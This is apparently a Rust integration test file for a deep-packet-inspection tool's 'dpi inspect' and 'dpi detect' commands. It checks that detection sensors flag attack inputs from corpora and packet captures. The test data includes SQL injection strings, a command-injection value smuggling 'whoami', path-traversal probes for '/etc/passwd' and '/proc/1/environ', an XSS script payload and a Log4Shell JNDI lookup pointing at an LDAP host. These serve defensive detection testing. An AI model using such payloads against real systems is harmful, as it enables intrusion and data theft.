//! `bulkhead dpi inspect`: real corpus rows piped in, one JSON verdict per line out.

use std::io::Write;
use std::process::{Command, Stdio};

const BIN: &str = env!("CARGO_BIN_EXE_bulkhead");

#[path = "../../sensor/tests/common/mod.rs"]
mod corpora;

fn inspect(args: &[&str], input: &str) -> Vec<serde_json::Value> {
    let mut child = Command::new(BIN)
        .args(["dpi", "inspect"])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(0));
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

/// A command's stdout, once it exited 0.
fn ok_stdout(cmd: &mut Command) -> String {
    let o = cmd.output().unwrap();
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8(o.stdout).unwrap()
}

/// The escaped payload column of the first `n` rows with `label` in `file`.
fn payloads(root: &std::path::Path, file: &str, label: &str, n: usize) -> Vec<String> {
    std::fs::read_to_string(root.join(file))
        .unwrap()
        .lines()
        .skip(1)
        .filter(|l| l.split('\t').next() == Some(label))
        .take(n)
        .map(|l| l.split('\t').nth(1).unwrap_or("").to_string())
        .collect()
}

#[test]
fn sqli_rows_match_and_benign_rows_do_not() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let attacks = payloads(&root, "attacks/httpparams.tsv", "sqli", 50);
    let benign = payloads(&root, "attacks/httpparams.tsv", "benign", 50);
    let input = format!("{}\n{}\n", attacks.join("\n"), benign.join("\n"));
    let out = inspect(&["--sensor", "sqli", "--escaped"], &input);
    assert_eq!(out.len(), 100);
    let hits = out[..50].iter().filter(|v| v["match"] == true).count();
    assert!(hits >= 49, "{hits}/50");
    assert!(
        out[50..]
            .iter()
            .all(|v| v["match"] == false && v["sensor"] == "sqli")
    );
    let first = out.iter().find(|v| v["match"] == true).unwrap();
    assert_eq!(first["detail"]["class"], "sqli");
    assert!(first["detail"]["fingerprint"].is_string(), "{first}");

    // Command injection names the program, path traversal how the name escapes.
    let out = inspect(
        &["--sensor", "all"],
        "127.0.0.1;w'h'oami\n../../etc/passwd\n/proc/1/environ\n",
    );
    assert_eq!(out[0]["detail"]["class"], "cmdi", "{}", out[0]);
    assert_eq!(out[0]["detail"]["command"], "whoami", "{}", out[0]);
    assert_eq!(out[1]["detail"]["reason"], "climb", "{}", out[1]);
    assert_eq!(out[2]["detail"]["reason"], "restricted_file", "{}", out[2]);
}

#[test]
fn whole_requests_and_dlp() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let reqs = payloads(&root, "attacks/crs_requests.tsv", "sqli", 40);
    let out = inspect(
        &["--sensor", "all", "--context", "request", "--escaped"],
        &(reqs.join("\n") + "\n"),
    );
    assert_eq!(out.len(), 40);
    // 18 of these 40 CRS 942 requests are found (CRS fragments, see docs/BENCHMARKS.md).
    assert!(out.iter().filter(|v| v["match"] == true).count() >= 16);

    let cards = payloads(&root, "dlp/sample.tsv", "credit_card", 20);
    let out = inspect(
        &["--sensor", "credit-card", "--context", "body", "--escaped"],
        &(cards.join("\n") + "\n"),
    );
    assert!(out.iter().all(|v| v["match"] == true), "{out:?}");
    assert!(
        out.iter()
            .all(|v| v["detail"]["masked"].as_str().unwrap().contains('*'))
    );
}

/// Whole statements, as the database proxies inspect them.
#[test]
fn sql_statements_on_the_wire() {
    let out = inspect(
        &["--sensor", "sqli", "--context", "sql"],
        "SELECT * FROM items WHERE id=1 AND 6232>6231\n\
         SELECT * FROM items WHERE id=1 AND 1=1\n\
         SELECT * FROM u WHERE name='admin'-- ' AND pw='x'\n",
    );
    let matched: Vec<bool> = out.iter().map(|v| v["match"] == true).collect();
    assert_eq!(matched, [true, false, true], "{out:?}");
    assert_eq!(out[0]["detail"]["location"], "sql");
}

#[test]
fn unknown_sensor_fails() {
    let out = Command::new(BIN)
        .args(["dpi", "inspect", "--sensor", "nope"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    // A usage error, as an unknown flag is.
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown sensor \"nope\""));
}

/// `dpi detect`: the same flows as JSON lines, YAML documents and table rows.
#[test]
fn detect_prints_json_yaml_and_table_alike() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let pcap = root.join("pcap/ndpi/mqtt.pcap");
    let out = |fmt: &str| {
        ok_stdout(
            Command::new(BIN)
                .args(["dpi", "detect"])
                .arg(&pcap)
                .args(["-o", fmt]),
        )
    };
    let json: Vec<serde_json::Value> = out("json")
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(!json.is_empty());
    let yaml = out("yaml");
    let docs: Vec<&str> = yaml.split("---\n").skip(1).collect();
    let table = out("table");
    assert_eq!(docs.len(), json.len(), "{yaml}");
    assert_eq!(
        table.lines().filter(|l| l.contains(" mqtt ")).count(),
        json.len()
    );
    for (doc, flow) in docs.iter().zip(&json) {
        for key in ["l4", "src", "dst", "protocol"] {
            let line = format!("{key}: {}\n", flow[key].as_str().unwrap());
            assert!(doc.contains(&line), "{doc} lacks {line}");
        }
    }
}

/// `dpi detect` on a capture cut short in its last packet (a `tcpdump` stopped hard):
/// the flows before the cut, a warning saying where reading stopped, exit code 0; a
/// file that is no capture at all: exit code 3.
#[test]
fn detect_reads_a_capture_cut_short() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let bytes = std::fs::read(root.join("pcap/ndpi/mqtt.pcap")).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let run = |name: &str, b: &[u8]| {
        let path = dir.path().join(name);
        std::fs::write(&path, b).unwrap();
        Command::new(BIN)
            .args(["dpi", "detect"])
            .arg(&path)
            .output()
            .unwrap()
    };
    let whole = run("whole.pcap", &bytes);
    let cut = run("cut.pcap", &bytes[..bytes.len() - 3]);
    assert_eq!(cut.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&cut.stderr);
    assert!(
        stderr.starts_with("warning: ") && stderr.contains("cut short in the middle of a "),
        "{stderr}"
    );
    assert!(
        whole.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&whole.stderr)
    );
    let lines = |o: &std::process::Output| String::from_utf8_lossy(&o.stdout).lines().count();
    assert!(lines(&cut) > 0 && lines(&cut) <= lines(&whole));
    let not = run(
        "not.pcap",
        b"GET / HTTP/1.1\r\n\r\n and more than a header's worth",
    );
    assert_eq!(not.status.code(), Some(3));
}

/// SMTP sessions that switch to TLS (STARTTLS) stay `smtp`, the ClientHello after the
/// command in their detail; plain ones have none.
#[test]
fn detect_names_starttls_in_smtp_sessions() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let flows = |file: &str| -> Vec<serde_json::Value> {
        let o = Command::new(BIN)
            .args(["dpi", "detect"])
            .arg(root.join("pcap/ndpi").join(file))
            .output()
            .unwrap();
        String::from_utf8(o.stdout)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let upgraded = flows("smtp-starttls.pcap");
    assert_eq!(upgraded.len(), 2);
    for f in &upgraded {
        assert_eq!(f["protocol"], "smtp", "{f}");
        assert!(f["detail"]["starttls"]["version"].is_string(), "{f}");
    }
    assert_eq!(
        upgraded[1]["detail"]["starttls"]["sni"], "dovecot.weberlab.de",
        "{}",
        upgraded[1]
    );
    let plain = flows("smtp.pcap");
    assert!(plain[0]["detail"].get("starttls").is_none(), "{}", plain[0]);
}

/// `dpi inspect --capture`: the connections of a capture replayed through the proxy's
/// sessions with the sensor attached. nDPI's captures of DVWA attacks and of Log4Shell
/// give their injections with the request each came in; benign HTTP, HTTP/2, gRPC, MySQL and
/// PostgreSQL captures give nothing; a table says the same as the JSON.
#[test]
fn inspect_finds_attacks_in_the_connections_of_a_capture() {
    let Some(root) = corpora::corpora() else {
        return;
    };
    let run = |sensor: &str, file: &str, fmt: &str| {
        ok_stdout(
            Command::new(BIN)
                .args(["dpi", "inspect", "--sensor", sensor, "--capture"])
                .arg(root.join("pcap").join(file))
                .args(["-o", fmt]),
        )
    };
    let hits = |sensor: &str, file: &str| -> Vec<serde_json::Value> {
        run(sensor, file, "json")
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let xss = hits("xss", "ndpi/xss.pcap");
    assert_eq!(xss.len(), 1, "{xss:?}");
    assert_eq!(xss[0]["class"], "xss");
    assert_eq!(xss[0]["location"], "query:default");
    assert_eq!(xss[0]["masked"], "English<script>alert(1)</script>");
    assert_eq!(xss[0]["protocol"], "http");
    assert!(
        (xss[0]["request"].as_str().unwrap())
            .starts_with("http GET /DVWA-master/vulnerabilities/xss_d/?default="),
        "{xss:?}"
    );
    // Log4Shell in a login form (nDPI's log4j-webapp-exploit.pcap).
    let log4j = hits("cmdi", "ndpi/log4j-webapp-exploit.pcap");
    assert_eq!(log4j.len(), 1, "{log4j:?}");
    assert_eq!(log4j[0]["location"], "body:form:uname");
    assert_eq!(log4j[0]["masked"], "${jndi:ldap://172.16.238.11:1389/a}");
    let sqli = hits("sqli", "ndpi/WebattackSQLinj.pcap");
    assert!(sqli.len() >= 7, "{sqli:?}");
    assert!(sqli.iter().all(|h| h["class"] == "sqli"));
    assert!(
        sqli.iter().any(|h| h["masked"] == "1' and 1=1#"),
        "{sqli:?}"
    );
    for benign in [
        "ndpi/http.pcapng",
        "ndpi/http2.pcapng",
        "ndpi/mysql.pcapng",
        "ndpi/pgsql.pcap",
        "grpc/grpc_unary.pcapng",
    ] {
        assert_eq!(
            hits("all", benign),
            Vec::<serde_json::Value>::new(),
            "{benign}"
        );
    }
    let table = run("sqli", "ndpi/WebattackSQLinj.pcap", "table");
    assert_eq!(table.lines().count(), sqli.len() + 1, "{table}");
    assert!(table.contains("1' and 1=1#"));
    // Lines on stdin are not read with --capture, and the two modes' flags do not mix.
    let o = Command::new(BIN)
        .args([
            "dpi",
            "inspect",
            "--sensor",
            "sqli",
            "--escaped",
            "--capture",
            "x.pcap",
        ])
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(2));
}
